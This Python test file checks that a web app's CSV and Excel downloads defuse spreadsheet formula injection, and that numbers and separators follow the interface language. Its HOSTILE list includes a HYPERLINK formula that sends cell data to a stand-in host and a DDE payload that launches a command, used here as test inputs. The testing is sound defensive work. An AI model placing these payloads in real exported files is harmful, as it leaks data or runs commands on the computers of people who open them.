"""Files the app produces never carry a formula a spreadsheet would run (CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from callbacks import download
from core.spreadsheet import inert, is_formula_like

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1;"klik")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_text_is_written_behind_an_apostrophe(value):
    assert is_formula_like(value) and inert(value) == "'" + value


@pytest.mark.parametrize("value", ["-5", "-3,5", "+1.000", "-1.5e3", "Den Bosch", "", "100%", "'=al"])
def test_numbers_in_either_notation_and_plain_text_stay_as_they_are(value):
    assert not is_formula_like(value) and inert(value) == value


def test_non_text_stays_as_it_is():
    assert inert(-5) == -5 and inert(None) is None and inert(2.5) == 2.5


def _table() -> pd.DataFrame:
    return pd.DataFrame(
        {"edition": [2021] * len(HOSTILE), "what": HOSTILE, "value": [-3] * len(HOSTILE), "published_text": HOSTILE}
    )


def test_no_csv_cell_of_a_download_starts_a_formula(in_request):
    content = download.to_csv(download.chart_table(_table()))
    rows = list(csv.reader(io.StringIO(content[1:], newline=""), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if is_formula_like(cell)]
    assert {"'" + value for value in HOSTILE} <= set(cells)  # each as it was written, behind its apostrophe
    assert ";-3;" in content  # a negative number stays a number


def test_no_excel_cell_of_a_download_is_a_formula(in_request):
    sheet = openpyxl.load_workbook(io.BytesIO(download.to_xlsx(download.chart_table(_table())))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    # the text as it was imported, shown as text
    assert {cell.value for cell in cells} >= set(HOSTILE) - {"\r=1"}


def test_an_english_download_writes_its_numbers_in_english_with_commas_between_cells(in_request):
    from flask import g

    g.sze_lang = "en"
    table = download.chart_table(pd.DataFrame({"edition": [2022], "what": ["x"], "value": [3500.0]}))
    rows = list(csv.reader(io.StringIO(download.to_csv(table)[1:], newline=""), delimiter=","))
    assert rows[1][rows[0].index("value")] == "3500"  # a count, not "3500.0"


def test_a_language_without_its_own_separator_gets_the_dutch_one(in_request):
    from flask import g

    g.sze_lang = "fy"  # not an interface language (yet): the file still opens in a Dutch Excel
    content = download.to_csv(download.chart_table(_table()))
    assert content.splitlines()[0].count(";") >= 3


def test_formula_like_text_is_stored_as_text_in_excel(in_request):
    sheet = openpyxl.load_workbook(io.BytesIO(download.to_xlsx(download.chart_table(_table())))).active
    hostile = [cell for row in sheet.iter_rows() for cell in row if cell.value in HOSTILE]
    assert hostile and {cell.data_type for cell in hostile} == {"s"}


def test_every_figure_of_an_english_download_is_in_english_notation_with_english_headings(in_request):
    from flask import g

    from tests.unit.test_callbacks import store

    g.sze_lang = "en"
    table = download.figures_table(store(editions=[2021, 2022]))
    assert "value" in table.columns and "waarde" not in table.columns
    assert "7.5" in set(table["value"]) and "7,5" not in set(table["value"])  # 2021's 'gemiddeld een 7,5'
    assert list(table.index) == list(range(len(table)))  # one row per figure, numbered afresh
